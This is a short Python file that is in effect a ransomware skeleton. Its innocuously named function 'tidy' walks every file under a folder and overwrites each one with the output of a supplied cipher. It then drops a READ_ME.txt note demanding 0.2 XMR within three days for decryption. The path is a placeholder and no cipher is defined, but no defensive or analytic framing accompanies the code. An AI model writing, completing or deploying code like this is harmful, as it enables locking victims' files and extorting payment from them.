import os

ROOT = "/nonexistent-folder/documents"
TEXT = "All of your files are locked. Send 0.2 XMR within three days and we decrypt them."


def tidy(cipher):
    for folder, _, names in os.walk(ROOT):
        for name in names:
            path = os.path.join(folder, name)
            with open(path, "r+b") as file:
                content = file.read()
                file.seek(0)
                file.write(cipher(content))
    with open(os.path.join(ROOT, "READ_ME.txt"), "w") as note:
        note.write(TEXT)
